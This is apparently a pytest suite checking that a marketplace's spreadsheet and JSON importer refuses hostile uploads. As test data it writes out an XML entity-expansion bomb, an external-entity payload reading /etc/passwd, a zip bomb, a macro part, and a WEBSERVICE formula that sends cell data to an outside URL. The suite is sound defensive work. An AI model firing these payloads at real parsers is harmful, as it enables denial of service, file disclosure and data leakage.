"""Files that a seller sends as services and that are something else, too large, or made to keep a worker busy."""

import zipfile
from io import BytesIO

import pytest
from openpyxl import Workbook

from marketplace.gigs.errors import GigErrorCode
from marketplace.gigs.exchange import workbook
from marketplace.gigs.exchange.base import Categories
from tests.factories import make_category
from tests.gigs.test_exchange import as_json, plan, record, refusal, upload

pytestmark = pytest.mark.django_db


def zipped(**parts: bytes) -> bytes:
    target = BytesIO()
    with zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in parts.items():
            archive.writestr(name, data)
    return target.getvalue()


def with_part(name: str, data: bytes) -> bytes:
    """A real workbook with one more part, or another content of it."""
    make_category(parent=make_category())
    source = zipfile.ZipFile(BytesIO(workbook.template(Categories())))
    target = BytesIO()
    with zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED) as archive:
        for part in source.namelist():
            if part != name:
                archive.writestr(part, source.read(part))
        archive.writestr(name, data)
    return target.getvalue()


BILLION_LAUGHS = (
    b'<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY a "lol"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">'
    b'<!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;">]><worksheet>&c;</worksheet>'
)
OUTSIDE = b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]><worksheet>&a;</worksheet>'


@pytest.mark.parametrize(
    "data",
    [
        b"",
        b"PK",
        b"PK\x03\x04 not a zip",
        b"<html></html>",
        b"\xff\xfe\x00",
        b"[]",
        b"{}",
        b'{"format": "jiangji-gigs", "version": 2, "gigs": []}',
        b'{"format": "jiangji-gigs", "version": 1, "gigs": {}}',
        b'{"format": "jiangji-gigs", "version": 1, "gigs": [NaN]}',
        b"[" * 100_000,
        b'{"a": ' + b"9" * 5000 + b"}",
        zipped(hello=b"world"),
        zipped(**{f"part{number}": b"x" for number in range(61)}),
    ],
    ids=range(14),
)
def test_what_is_no_such_file_is_refused(seller, data):
    assert refusal(seller, upload(data)) == GigErrorCode.IMPORT_UNREADABLE


@pytest.mark.parametrize(
    ("part", "data"),
    [
        ("xl/worksheets/sheet1.xml", BILLION_LAUGHS),
        ("xl/worksheets/sheet1.xml", OUTSIDE),
        ("xl/workbook.xml", BILLION_LAUGHS),
        ("xl/vbaProject.bin", b"macro"),
        ("xl/worksheets/sheet9.xml", b"<worksheet>" + b" " * (21 * 1024 * 1024) + b"</worksheet>"),
    ],
)
def test_a_workbook_that_unpacks_to_too_much_or_reads_elsewhere_is_refused(seller, part, data):
    hostile = with_part(part, data)
    assert len(hostile) < 2 * 1024 * 1024
    assert refusal(seller, upload(hostile)) == GigErrorCode.IMPORT_UNREADABLE


def test_a_zip_bomb_is_refused_before_it_is_unpacked(seller, monkeypatch):
    def opened(*_arguments, **_named):
        raise AssertionError("it was opened")

    bomb = zipped(**{"xl/workbook.xml": b"0" * (30 * 1024 * 1024)})
    monkeypatch.setattr(workbook, "load_workbook", opened)
    assert refusal(seller, upload(bomb)) == GigErrorCode.IMPORT_UNREADABLE


def test_a_formula_is_neither_computed_nor_taken_for_a_text(seller):
    book = Workbook()
    page = book.active
    page.title = "服务"
    page.append(["自有编号", "标题"])
    page.append(["A", '=WEBSERVICE("http://x/"&A1)'])
    target = BytesIO()
    book.save(target)
    assert refusal(seller, upload(target.getvalue())) == GigErrorCode.IMPORT_FORMULA


def test_a_sheet_that_claims_a_million_lines_is_read_up_to_a_bound(seller):
    book = Workbook()
    page = book.active
    page.title = "服务"
    page.append(["自有编号", "标题"])
    page.cell(1_048_576, 16_384).value = "far away"
    target = BytesIO()
    book.save(target)
    assert refusal(seller, upload(target.getvalue())) == GigErrorCode.IMPORT_EMPTY


def test_size_and_number_have_limits(seller):
    assert refusal(seller, upload(b" " * (2 * 1024 * 1024 + 1))) == GigErrorCode.IMPORT_TOO_LARGE
    assert refusal(seller, as_json(*[{}] * 51)) == GigErrorCode.IMPORT_TOO_MANY
    assert refusal(seller, as_json()) == GigErrorCode.IMPORT_EMPTY


def test_signs_that_no_database_takes_are_left_out(seller):
    (planned,) = plan(seller, as_json(record(title="标志\x00\ud800设计", description="第一行\x0b第二行")))
    assert (planned.title, planned.content.description) == ("标志设计", "第一行第二行")


def test_a_number_beyond_all_bounds_is_a_refusal(seller):
    raw = b'{"format": "jiangji-gigs", "version": 1, "gigs": [{"title": 1e99999999999999999999}]}'
    assert refusal(seller, upload(raw)) == GigErrorCode.IMPORT_UNREADABLE


def test_a_part_that_is_named_as_many_sheets_is_read_once_for_each_that_we_know(monkeypatch):
    """A file of seven kilobytes can name one part of itself fifty times; each was read anew, for minutes."""
    read = []
    lines = workbook._lines

    def counted(page, limit):
        read.append(page.title)
        return lines(page, limit)

    monkeypatch.setattr(workbook, "_lines", counted)
    book = Workbook()
    book.active.title = "服务"
    for number in range(50):
        book.create_sheet(f"表{number}")
    book.create_sheet("常见问题")
    target = BytesIO()
    book.save(target)
    workbook.read_records(target.getvalue())
    assert read == ["服务", "常见问题"]


def test_the_lines_of_all_sheets_together_are_limited(monkeypatch):
    monkeypatch.setattr(workbook, "ROW_LIMIT", 20)
    book = Workbook()
    book.active.title = "服务"
    for name in ("加购项", "常见问题"):
        page = book.create_sheet(name)
        for _number in range(11):
            page.append(["a", "b"])
    target = BytesIO()
    book.save(target)
    with pytest.raises(workbook.Unreadable):
        workbook.read_records(target.getvalue())
